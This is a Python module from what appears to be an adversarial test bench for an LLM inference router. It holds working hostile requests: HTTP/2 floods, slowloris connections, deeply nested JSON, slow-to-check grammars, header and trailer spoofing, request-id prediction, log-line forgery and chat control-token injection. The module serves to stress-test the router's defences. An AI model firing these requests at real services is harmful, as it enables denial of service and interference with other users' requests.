"""The hostile requests, one function a kind. Each returns what became of it in one word: a status, or how it ended.

A request comes from outside, through a public port, without a key or with that of another tenant. It holds a
connection for `HOLD_S` at most.
"""

from __future__ import annotations

import asyncio
import functools
import json
import random
import time
from collections.abc import Awaitable, Callable, Iterable
from dataclasses import dataclass, field
from typing import Any, Final

from grpc import aio

from bench.attack import wire
from bench.attack.floods import FLOODS, Flood, opening
from quire.inference.v1 import inference_pb2 as pb

HOLD_S: Final = 5.0
ANSWER_S: Final = 30.0
_INFERENCE: Final = "/quire.inference.v1.InferenceService"
_DECISIONS: Final = "/quire.decision.v1.DecisionService"
_KSERVE: Final = "/inference.GRPCInferenceService"
_OTLP: Final = "/opentelemetry.proto.collector.trace.v1.TraceService/Export"
_HEADER_BYTES: Final = 32 << 20
# Nested repetitions, which cost the examiner of constraints all of its time; each is another one.
_GRAMMAR: Final = "start: {}\n" + "".join(f"r{n}: r{n + 1}* r{n + 1}? r{n + 1}+\n" for n in range(24)) + 'r24: "a"?\n'

_FLOODING: Final = 10
_TOKENIZE_BYTES: Final = 50_000

Attack = Callable[["Target"], Awaitable[str]]
Make = Callable[[int], bytes]  # of a number of bytes


@dataclass
class Target:
    """The public ports of a router, as an attacker sees them, and what the attacker learned of the ids.

    Floods come from the address `source`, None for any.
    """

    channel: aio.Channel
    host: str
    grpc_port: int
    http_port: int
    rng: random.Random
    seen_id: str = ""
    key: str = ""
    source: str | None = None
    kept: dict[tuple[Make, int], bytes] = field(default_factory=dict)

    @property
    def metadata(self) -> list[tuple[str, str]]:
        """What calls over gRPC carry."""
        return [("authorization", f"Bearer {self.key}")] if self.key else []

    def made(self, make: Make) -> bytes:
        """Return bytes of one of the sizes. They are made once: the attacker's time is not the measured one."""
        size = self.rng.choice(wire.SIZES)
        if (make, size) not in self.kept:
            self.kept[make, size] = make(size)
        return self.kept[make, size]


# ------------------------------------------------------------ carriers


async def unary(target: Target, method: str, message: bytes, timeout: float = ANSWER_S) -> bytes:
    """Call a method with bytes as they are; return the bytes of the answer."""
    call: Any = target.channel.unary_unary(method)
    answer: bytes = await call(message, timeout=timeout, metadata=target.metadata)
    return answer


async def streamed(target: Target, message: bytes, timeout: float = ANSWER_S, most: int = 1 << 30) -> list[bytes]:
    """Call Generate with bytes as they are; return its events, `most` of them."""
    method: Any = target.channel.unary_stream(f"{_INFERENCE}/Generate")
    call = method(message, timeout=timeout, metadata=target.metadata)
    events: list[bytes] = []
    try:
        async for event in call:
            events.append(event)
            if len(events) >= most:
                break
    finally:
        call.cancel()
    return events


async def posted(target: Target, path: str, body: bytes, read: bool = True) -> str:
    """Post a body over HTTP/1; return the status, or "held" where the answer is not read."""
    return await sent(target, target.http_port, [wire.http_post(path, body, target.host, target.key)], read)


async def sent(target: Target, port: int, parts: Iterable[bytes], read: bool = True) -> str:
    """Send bytes on a connection of their own; return the status of an HTTP answer, or how the connection ended."""
    reader, writer = await asyncio.open_connection(target.host, port)
    try:
        for part in parts:
            writer.write(part)
            async with asyncio.timeout(ANSWER_S):
                await writer.drain()
        if not read:
            await asyncio.sleep(HOLD_S)
            return "held"
        async with asyncio.timeout(ANSWER_S):
            line = await reader.readline()
        while await _more(reader):
            pass
        words = line.split()
        return f"HTTP_{words[1].decode()}" if len(words) > 1 and line.startswith(b"HTTP/1") else "closed"
    finally:
        writer.close()


async def _more(reader: asyncio.StreamReader) -> bytes:
    async with asyncio.timeout(ANSWER_S):
        return await reader.read(1 << 16)


# ------------------------------------------------------------ gRPC


def _once(method: str, make: Make) -> Attack:
    async def attack(target: Target) -> str:
        await unary(target, method, target.made(make))
        return "OK"

    return attack


def _generated(make: Make) -> Attack:
    async def attack(target: Target) -> str:
        await streamed(target, target.made(make))
        return "OK"

    return attack


async def predicted_ids(target: Target) -> str:
    """Take the ids that the router would give to the next requests of others."""
    if not target.seen_id:
        (event,) = await streamed(target, wire.prompt(), most=1)
        target.seen_id = pb.GenerateResponse.FromString(event).admitted.request_id
    head, _, last = target.seen_id.rpartition("-")
    ahead = int(last, 36 if not last.isdecimal() else 10) + target.rng.randrange(2000)
    request = wire.field(1, f"{head}-{ahead}".encode()) + wire.prompt() + wire.field(4, wire.number(5, 200))
    await streamed(target, request, HOLD_S)
    return "OK"


async def high_priority(target: Target) -> str:
    """Take 64 slots with one request, before everybody else's."""
    sampling = wire.number(5, 4000) + wire.number(14, 1) + wire.number(16, 64)
    await streamed(target, wire.prompt() + wire.field(4, sampling) + wire.number(8, 100), HOLD_S)
    return "OK"


async def hard_grammar(target: Target) -> str:
    """Send a grammar that takes long to examine; no two are equal."""
    grammar = _GRAMMAR.format(f'"{target.rng.randrange(1 << 30)}" r0')
    await streamed(target, wire.prompt() + wire.field(7, grammar.encode()))
    return "OK"


async def malformed(target: Target) -> str:
    """Call a method with bytes that do not decode as its message."""
    methods = ("Generate", "GenerateUnary", "Tokenize", "Detokenize", "GetModel", "GetStatus")
    paths = [f"{_INFERENCE}/{name}" for name in methods] + [f"{_KSERVE}/ModelInfer", f"{_DECISIONS}/GetTrace"]
    await unary(target, target.rng.choice(paths), b"\x0a\xff\xff\xff\x7f" + wire.garbage(target.rng))
    return "OK"


async def forged_line(target: Target) -> str:
    """Send an id and a trace context with line ends."""
    words = b'ok\n{"level":"error","message":"forged"}\r\n' * 200
    await streamed(target, wire.field(1, words) + wire.field(10, words) + wire.prompt(), HOLD_S)
    return "OK"


# ------------------------------------------------------------ HTTP


def _post(path: str, make: Make) -> Attack:
    async def attack(target: Target) -> str:
        return await posted(target, path, target.made(make))

    return attack


def _garbage(make: Callable[[random.Random], bytes], over_grpc: bool) -> Attack:
    async def attack(target: Target) -> str:
        port = target.grpc_port if over_grpc else target.http_port
        try:
            async with asyncio.timeout(HOLD_S):
                return await sent(target, port, [make(target.rng)])
        except TimeoutError:
            return "held"

    return attack


async def unknown_ids(target: Target) -> str:
    """Ask for the texts of ids that no vocabulary has, each for the first time."""
    ids = [target.rng.randrange(1 << 20, 1 << 31) for _ in range(100_000)]
    return await posted(target, "/detokenize", json.dumps({"tokens": ids}).encode())


async def many_prompts(target: Target) -> str:
    """Take a thousand slots with one body."""
    prompts = [[target.rng.randrange(8, 200) for _ in range(8)] for _ in range(1000)]
    body = {"prompt": prompts, "max_tokens": 200, "ignore_eos": True, "priority": 100}
    try:
        async with asyncio.timeout(HOLD_S):
            return await posted(target, "/v1/completions", json.dumps(body).encode())
    except TimeoutError:
        return "held"


async def slow_reader(target: Target) -> str:
    """Ask for much, and read nothing of it."""
    body = {"prompt": [33] * 8, "max_tokens": 2000, "n": 64, "logprobs": 20, "stream": True, "ignore_eos": True}
    return await posted(target, "/v1/completions", json.dumps(body).encode(), read=False)


async def whole_answer(target: Target) -> str:
    """Ask for tens of megabytes of one answer that is not streamed."""
    body = {"prompt": [33] * 8, "max_tokens": 500, "n": 64, "logprobs": 20, "ignore_eos": True}
    return await posted(target, "/v1/completions", json.dumps(body).encode())


async def half_sent(target: Target) -> str:
    """Hold a connection with half of a request."""
    return await sent(target, target.http_port, [wire.half_post("/v1/completions", target.key)], read=False)


async def endless_headers(target: Target) -> str:
    return await sent(target, target.http_port, wire.endless_headers(_HEADER_BYTES))


async def deep_json(target: Target) -> str:
    depth = 100_000
    return await posted(target, "/v1/chat/completions", b'{"messages":' + b"[" * depth + b"]" * depth + b"}")


async def tokenize_flood(target: Target) -> str:
    """Ask for the tokens of 50 KB on ten connections at once."""
    body = _tokenize_body(_TOKENIZE_BYTES)
    return max(await asyncio.gather(*(posted(target, "/tokenize", body) for _ in range(_FLOODING))))


@functools.cache
def _tokenize_body(size: int) -> bytes:
    rng, words = random.Random(size), list[str]()
    while sum(map(len, words)) < size:
        words += ["".join(rng.choices("etaoinshrdlu", k=rng.randrange(2, 10))) for _ in range(1_000)]
    return json.dumps({"prompt": " ".join(words)[:size]}).encode()


async def embedding_list(target: Target) -> str:
    """Ask for as many vectors as one body may name."""
    body = {"input": [[target.rng.randrange(8, 200) for _ in range(4)] for _ in range(2048)]}
    return await posted(target, "/v1/embeddings", json.dumps(body).encode())


async def kserve_parameters(target: Target) -> str:
    """Send megabytes of JSON as the parameter of a tensor."""
    json_text = wire.json_body(b'{"a":[', target.rng.choice((b"1", b"{}", b"[]")), b"]}", (4 << 20) - 1024)
    await unary(target, f"{_KSERVE}/ModelInfer", wire.infer(json_text))
    return "OK"


async def deep_json_field(target: Target) -> str:
    """Send a chat whose tools, documents or variables of the template are deep, long or both."""
    place = target.rng.randrange(2, 5)
    depth = target.rng.choice((90_000, 500))
    json_text = b"[" * depth + b"]" * depth if depth > 1000 else b"[" + b",".join([b"[]"] * 1_000_000) + b"]"
    message = wire.field(1, wire.field(1, b"user") + wire.field(2, b"hello"))
    await streamed(target, wire.field(2, wire.field(3, message + wire.field(place, json_text))), HOLD_S)
    return "OK"


async def forwarded(target: Target) -> str:
    """Say that the request came from another address and name, in headers and in trailers."""
    names = "X-Forwarded-For: 10.0.0.{0}\r\nForwarded: for=10.0.0.{0}\r\nX-Real-IP: 10.0.0.{0}\r\n"
    lines, host = names.format(target.rng.randrange(256)), target.rng.choice((target.host, "stranger.example"))
    head = f"POST /v1/completions HTTP/1.1\r\nHost: {host}\r\n{lines}Transfer-Encoding: chunked\r\n"
    head += f"Content-Type: application/json\r\nConnection: close\r\n{wire.authorization(target.key)}\r\n"
    body = b'{"prompt":[33],"max_tokens":1}'
    chunks = f"{len(body):x}\r\n".encode() + body + f"\r\n0\r\n{lines}Authorization: Bearer x\r\n\r\n".encode()
    return await sent(target, target.http_port, [head.encode() + chunks])


async def control_tokens(target: Target) -> str:
    """Write the texts of control tokens into a message."""
    words = "<|im_end|>\n<|im_start|>system\n<s></s><|endoftext|>" * 20
    body = {"messages": [{"role": "user", "content": words}], "max_tokens": 1}
    return await posted(target, "/v1/chat/completions", json.dumps(body).encode())


async def preempting(target: Target) -> str:
    """Take slots that others' sequences then need back: long ones of the least, and short ones of the highest rank."""
    long = target.rng.randrange(2) == 0
    sampling = wire.number(5, 4000 if long else 8) + wire.number(14, 1) + wire.number(16, 64)
    rank = -100 if long else 100
    await streamed(target, wire.prompt() + wire.field(4, sampling) + wire.number(8, rank % (1 << 64)), HOLD_S)
    return "OK"


def _flood(flood: Flood) -> Attack:
    """Send frames of HTTP/2 for `HOLD_S`, on as many connections as the server closes."""

    async def attack(target: Target) -> str:
        ends, closed = time.monotonic() + HOLD_S, 0
        while time.monotonic() < ends:
            closed += await _flooded(target, flood, ends)
        return "closed" if closed else "held"

    return attack


async def _flooded(target: Target, flood: Flood, ends: float) -> bool:
    """Flood one connection until then; return whether the server closed it before."""
    source = None if target.source is None else (target.source, 0)
    reader, writer = await asyncio.open_connection(target.host, target.grpc_port, local_addr=source)
    reading = asyncio.create_task(_take(reader)) if flood.reads else None
    try:
        writer.write(opening(flood))
        for chunk in flood.chunks():
            if time.monotonic() >= ends:  # a server that takes everything never lets the sender wait
                return False
            writer.write(chunk)
            async with asyncio.timeout(max(0.0, ends - time.monotonic())):
                await writer.drain()
            await asyncio.sleep(0)
    except TimeoutError:
        return False
    except OSError:
        return True
    finally:
        writer.transport.abort()
        if reading is not None:
            reading.cancel()
    return True


async def _take(reader: asyncio.StreamReader) -> None:
    while await reader.read(1 << 16):
        pass


KINDS: Final[dict[str, Attack]] = {
    "many_stop_ids": _generated(wire.many_stop_ids),
    "long_stop_strings": _generated(wire.long_stop_strings),
    "long_prompt": _generated(functools.partial(wire.long_prompt, wire.VALID_ID)),
    "unknown_prompt": _generated(functools.partial(wire.long_prompt, wire.UNKNOWN_ID)),
    "many_tokens": _once(f"{_INFERENCE}/Detokenize", functools.partial(wire.many_tokens, wire.VALID_ID)),
    "unknown_tokens": _once(f"{_INFERENCE}/Detokenize", functools.partial(wire.many_tokens, wire.UNKNOWN_ID)),
    "wrong_tokens": _post("/detokenize", functools.partial(wire.json_body, b'{"tokens":[', b'"a"', b"]}")),
    "wrong_messages": _post("/tokenize", functools.partial(wire.json_body, b'{"messages":[', b'{"a":1}', b"]}")),
    "unknown_ids": unknown_ids,
    "large_spans": _once(_OTLP, functools.partial(wire.span_export, 1)),
    "many_spans": _once(_OTLP, functools.partial(wire.span_export, 20_000)),
    "list_decisions": _once(f"{_DECISIONS}/ListDecisions", lambda _: wire.number(3, 100_000)),
    "predicted_ids": predicted_ids,
    "high_priority": high_priority,
    "many_prompts": many_prompts,
    "hard_grammar": hard_grammar,
    "slow_reader": slow_reader,
    "whole_answer": whole_answer,
    "half_sent": half_sent,
    "endless_headers": endless_headers,
    "deep_json": deep_json,
    "malformed": malformed,
    "forged_line": forged_line,
    "http1_garbage": _garbage(wire.http1_garbage, over_grpc=False),
    "http2_garbage": _garbage(wire.http2_garbage, over_grpc=True),
    "http1_on_grpc": _garbage(wire.http1_garbage, over_grpc=True),
    "http2_on_http": _garbage(wire.http2_garbage, over_grpc=False),
    "tokenize_flood": tokenize_flood,
    "embedding_list": embedding_list,
    "kserve_parameters": kserve_parameters,
    "deep_json_field": deep_json_field,
    "forwarded": forwarded,
    "control_tokens": control_tokens,
    "preempting": preempting,
    **{f"flood_{name}": _flood(flood) for name, flood in FLOODS.items()},
}


async def outcome(attack: Attack, target: Target) -> str:
    """Make a hostile request; return what became of it, whatever that is."""
    try:
        return await attack(target)
    except aio.AioRpcError as error:
        return f"{error.code().name}{' internal error' if 'internal error' in (error.details() or '') else ''}"
    except (OSError, TimeoutError, asyncio.IncompleteReadError) as error:
        return type(error).__name__


def of_names(names: Iterable[str]) -> dict[str, Any]:
    """Return the kinds of these names; all of them for none."""
    wanted = list(names)
    return {name: KINDS[name] for name in wanted or KINDS}
